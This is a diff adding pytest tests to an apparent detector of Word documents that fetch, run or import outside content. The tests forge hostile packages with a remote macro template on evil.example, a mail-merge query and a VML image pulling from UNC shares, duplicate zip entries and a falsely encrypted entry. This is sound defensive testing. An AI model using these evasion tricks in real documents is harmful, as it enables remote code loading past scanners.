@@ -76,3 +76,75 @@ def test_what_word_would_fetch_run_or_import_is_named(change, said):
     with zipfile.ZipFile(io.BytesIO(data)) as archive:
         document = archive.read("word/document.xml")
     assert docxactions.docx_action(_with(data, change(document))) == said
+
+
+def _settings(doc: bytes, element: str) -> dict[str, bytes]:
+    """settings.xml with `element` before its end (its own namespace prefix, `w:`)."""
+    with zipfile.ZipFile(io.BytesIO(_redline())) as archive:
+        settings = archive.read("word/settings.xml")
+    return {"word/settings.xml": settings.replace(b"</w:settings>", element.encode() + b"</w:settings>", 1)}
+
+
+@pytest.mark.parametrize(("change", "said"), [
+    # OPC compares part names without case: `settings.xml.RELS` is settings.xml's relationships part to Word
+    (lambda doc: {"word/_rels/settings.xml.RELS": _rels(_EXTERNAL.format(mode="External"))},
+     "word/_rels/settings.xml.RELS: https://evil.example/t.dotm"),
+    # a mail merge's data source, queried by Word on opening: a workbook on another machine's share
+    (lambda doc: _settings(doc, '<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:query w:val="SELECT * FROM '
+                                '\\\\evil.example\\share\\data.xlsx"/></w:mailMerge>'), "word/settings.xml: <mailMerge>"),
+    # a VML picture, whose imagedata links a file by `src` as well as by a relationship
+    (lambda doc: {"word/document.xml": _field(doc, '<w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml">'
+                                                   '<v:imagedata src="\\\\evil.example\\s\\x.png"/></v:shape></w:pict>')},
+     "word/document.xml: <pict>"),
+    # a MIME type is read without case
+    (lambda doc: {"[Content_Types].xml": b'<Types><Override ContentType="application/vnd.ms-word.document.'
+                                         b'MacroEnabled.main+xml"/></Types>'}, "macroEnabled"),
+])
+def test_what_word_reads_of_a_part_named_in_another_case_or_a_merge_or_picture_is_named(change, said):
+    """Session 39, safety51: a served redline forged with its settings' relationships part named `.RELS` (the same
+    part to Word, which compares part names without case) fetched a remote template unseen, and a mail merge's data
+    source or a VML picture linked by `src` passed. Named now; the generator's own redline holds none."""
+    data = _redline()
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        document = archive.read("word/document.xml")
+    assert docxactions.docx_action(_with(data, change(document))) == said
+
+
+def test_a_part_written_twice_or_encrypted_is_named_without_a_traceback():
+    """Session 39, safety51: a package holding a part twice had the last read twice (zipfile opens a name's last entry)
+    and the first, fetching a remote template, never read; an encrypted entry raised RuntimeError out of the check (a
+    traceback from `policy publish`). Each is named: no document Word opens as written."""
+    data = _redline()
+    hostile = _rels(_EXTERNAL.format(mode="External"))
+    out = io.BytesIO()
+    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(out, "w") as target:
+        target.writestr("word/_rels/settings.xml.rels", hostile)
+        for name in source.namelist():
+            if name != "word/_rels/settings.xml.rels":
+                target.writestr(name, source.read(name))
+        with pytest.warns(UserWarning, match="Duplicate name"):
+            target.writestr("word/_rels/settings.xml.rels", _rels(""))
+    assert docxactions.docx_action(out.getvalue()) == "word/_rels/settings.xml.rels: https://evil.example/t.dotm"
+    twice = io.BytesIO()
+    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(twice, "w") as target:
+        for name in source.namelist():
+            target.writestr(name, source.read(name))
+        target.writestr("WORD/DOCUMENT.XML", source.read("word/document.xml"))
+    assert docxactions.docx_action(twice.getvalue()) == "WORD/DOCUMENT.XML: twice"
+    assert docxactions.docx_action(_encrypted(_with(data, {"word/extra.xml": b"<x/>"}), "word/extra.xml")) \
+        == "word/extra.xml"
+
+
+def _encrypted(data: bytes, name: str) -> bytes:
+    """`data` with the entry `name` flagged as encrypted (bit 0 of its flags, in its local and central headers)."""
+    flagged = bytearray(data)
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        local = archive.getinfo(name).header_offset
+    flagged[local + 6] |= 1
+    central = data.find(b"PK\x01\x02")
+    while central != -1:
+        length = int.from_bytes(data[central + 28:central + 30], "little")
+        if data[central + 46:central + 46 + length] == name.encode():
+            flagged[central + 8] |= 1
+        central = data.find(b"PK\x01\x02", central + 4)
+    return bytes(flagged)
